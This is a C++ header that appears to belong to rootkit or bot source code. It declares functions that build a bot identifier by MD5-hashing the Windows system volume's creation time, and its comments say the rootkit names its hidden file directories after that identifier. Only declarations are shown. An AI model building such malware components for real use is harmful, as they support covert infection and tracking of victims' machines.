#pragma once
// The bot identifier: "$" and 32 lowercase hexadecimal digits derived from
// the creation time of the volume that holds the Windows directory; the
// rootkit names its file directories after it.
#include <windows.h>
#include <winternl.h>

// Characters of an identifier with its NUL.
constexpr size_t kBotIdCapacity = 34;

// What the file system says about a volume: the raw results of the
// attribute query and the volume query, judged by BotIdFromVolumeFacts.
struct VolumeFacts {
    LONG attributeStatus;        // status of the FileFsAttributeInformation query
    ULONG fileSystemAttributes;  // FILE_FS_ATTRIBUTE_INFORMATION.FileSystemAttributes
    LONG volumeStatus;           // status of the FileFsVolumeInformation query
    ULONG_PTR volumeBytes;       // bytes the volume query wrote
    BYTE creationTime[8];        // VolumeCreationTime as the system stores it
};

// The seam between the volume query and the derivation: fills facts, or
// returns false when the volume could not be asked at all.
typedef bool (*VolumeQuery)(VolumeFacts* facts);

// NtQueryVolumeInformationFile; tests put a file system's answer in its place.
typedef LONG(NTAPI* VolumeInformationQuery)(HANDLE file, IO_STATUS_BLOCK* io, void* buffer, ULONG length,
                                             ULONG informationClass);

// Asks the volume of an open file for its attributes and its volume
// information (room for the longest label, 32 characters) into facts.
void QueryOpenVolume(VolumeInformationQuery query, HANDLE file, VolumeFacts* facts);

// Opens the object with the given native name (for example "\systemroot")
// through ntdll and asks its volume. False when ntdll lacks the functions or
// the object cannot be opened.
bool QueryVolumeFacts(const wchar_t* nativeName, VolumeFacts* facts);

// QueryVolumeFacts for "\systemroot", the Windows directory.
bool QuerySystemVolume(VolumeFacts* facts);

// Writes "$" and the digest read as a GUID (Data1, Data2, Data3 little-endian,
// then Data4 byte by byte), lowercase, into botId (kBotIdCapacity characters).
bool FormatBotId(const BYTE digest[16], wchar_t* botId);

// Judges facts (named streams and reparse points supported, the volume
// query's fixed part complete), hashes the creation time with MD5 and
// formats the digest. botId is written only on success.
bool BotIdFromVolumeFacts(const VolumeFacts& facts, wchar_t* botId);

// The derivation through a given volume query; botId is written only on success.
bool GenerateBotIdWith(VolumeQuery query, wchar_t* botId);

// The derivation from the system volume. Logs nothing; botId (at least
// kBotIdCapacity characters) is written only on success.
bool GenerateBotId(wchar_t* botId);
